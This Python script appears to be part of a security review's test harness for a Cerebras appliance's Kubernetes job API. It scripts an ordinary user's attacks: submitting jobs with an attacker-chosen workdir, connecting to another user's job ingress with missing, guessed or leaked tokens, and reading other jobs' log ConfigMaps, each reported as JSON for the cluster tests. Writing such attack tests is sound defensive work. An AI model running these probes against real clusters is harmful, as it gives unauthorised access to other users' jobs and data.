"""An ordinary Cerebras user's attacks on the appliance (security review B20, B21, B23, B11),
with her own client certificate, as the review's scripts made them. Each prints one
JSON line saying what happened; the cluster tests judge it.

    python3 wsattack.py create NAME WORKDIR      POST a compile WSJob with spec.workdir
    python3 wsattack.py submit NAME REQUEST_JSON  POST a proper job (her secret) and follow it
    python3 wsattack.py follow NAME TOKEN        stream a job's ingress presenting TOKEN
    python3 wsattack.py sniff OWNER LABEL SECONDS connect to another user's job's ingress
    python3 wsattack.py logs NAME                GET the job's logs ConfigMap directly
"""

import json
import socket
import sys
import time

from aitestbed.cerebras import config, kubeapi, wsjob


def api() -> kubeapi.KubeApi:
    return kubeapi.KubeApi(config.user_credentials(config.load_usernode_config()))


def me() -> tuple[str, int]:
    import os
    import pwd
    user = pwd.getpwuid(os.geteuid())
    return user.pw_name, user.pw_uid


def stream(ingress: str, hello: bytes | None, timeout: float = 30) -> dict:
    """What a client sending `hello` first gets from the ingress."""
    host, _, port = ingress.rpartition(":")
    got = {"ingress": ingress, "connected": False, "types": [], "bytes": 0}
    data = b""
    try:
        with socket.create_connection((host, int(port)), timeout=5) as sock:
            got["connected"] = True
            if hello is not None:
                sock.sendall(hello)
            sock.settimeout(timeout)
            while chunk := sock.recv(1 << 16):
                data += chunk
    except OSError as err:
        got["error"] = str(err)
    got["bytes"] = len(data)
    for line in data.splitlines():
        try:
            got["types"].append(json.loads(line).get("type"))
        except ValueError:
            got["types"].append("?")
    return got


def wait(client: kubeapi.KubeApi, name: str, until, timeout: float = 300) -> dict:
    deadline = time.monotonic() + timeout
    while True:
        job = client.get_job(name)
        if until(job) or time.monotonic() > deadline:
            return job
        time.sleep(0.2)


def create(name: str, workdir: str) -> None:
    user, uid = me()
    job = wsjob.build("compile", {"release": "2.1.1"}, user, uid, uid, token=wsjob.new_token())
    job["metadata"]["name"] = name
    job["spec"]["workdir"] = workdir
    job["spec"]["request"] = json.dumps({"written-by": user, "via": "wsjob agent as root"})
    try:
        api().create_job(job)
        print(json.dumps({"created": True}))
    except kubeapi.ApiError as err:
        print(json.dumps({"created": False, "status": err.status, "message": err.message}))


def follow(name: str, token: str) -> None:
    client = api()
    job = wait(client, name, lambda j: (j.get("status") or {}).get("ingress")
               or wsjob.phase(j) in wsjob.FINISHED)
    got = {}
    if (job.get("status") or {}).get("ingress"):
        got = stream(job["status"]["ingress"], (json.dumps({"token": token}) + "\n").encode())
    job = wait(client, name, lambda j: wsjob.phase(j) in wsjob.FINISHED)
    print(json.dumps({**got, "phase": wsjob.phase(job),
                      "message": (job.get("status") or {}).get("message", "")}))


def submit(name: str, request: str) -> None:
    user, uid = me()
    token = wsjob.new_token()
    job = wsjob.build("compile", json.loads(request), user, uid, uid, token=token)
    job["metadata"]["name"] = name
    job["spec"]["workdir"] = wsjob.workdir(name)
    api().create_job(job)
    follow(name, token)


def sniff(owner: str, label: str, seconds: float) -> None:
    """The review's sniff.py: each RUNNING job of `owner` labelled name=LABEL (its compile,
    then its execute job), connected to as soon as it has an ingress, with no secret, a
    guess, and the hash the spec shows. Ends after the execute job, or `seconds`."""
    client = api()
    deadline = time.monotonic() + seconds
    tries, seen = [], set()
    while time.monotonic() < deadline and "execute" not in {t["job_type"] for t in tries}:
        for job in client.list_jobs(label_selector=f"name={label}").get("items", []):
            status, name = job.get("status") or {}, job["metadata"]["name"]
            if (wsjob.owner(job) == owner and status.get("ingress") and name not in seen
                    and wsjob.phase(job) == wsjob.RUNNING):
                seen.add(name)
                spec_hash = job["spec"].get(wsjob.TOKEN_FIELD, "")
                for hello in (b'{"token": "guess"}\n',
                              (json.dumps({"token": spec_hash}) + "\n").encode(), None):
                    got = stream(status["ingress"], hello, timeout=15)
                    tries.append({**got, "job": name, "job_type": job["spec"]["jobType"]})
        time.sleep(0.05)
    print(json.dumps({"tries": tries}))


def logs(name: str) -> None:
    try:
        api().get_config_map(wsjob.logs_config_map(name))
        print(json.dumps({"read": True}))
    except kubeapi.ApiError as err:
        print(json.dumps({"read": False, "status": err.status, "message": err.message}))


if __name__ == "__main__":
    command, *args = sys.argv[1:]
    {"create": create, "follow": follow, "submit": submit, "logs": logs,
     "sniff": lambda o, lb, s: sniff(o, lb, float(s))}[command](*args)
